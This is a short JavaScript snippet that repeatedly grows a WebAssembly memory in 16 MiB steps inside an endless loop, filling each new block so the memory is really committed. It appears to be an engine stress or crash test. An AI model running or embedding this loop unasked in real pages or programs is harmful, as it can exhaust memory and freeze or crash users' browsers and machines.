const memory = new WebAssembly.Memory({ initial: 1, maximum: 65536 });
for (;;) {
  const old = memory.grow(256);
  new Uint8Array(memory.buffer, old * 65536).fill(1);
}
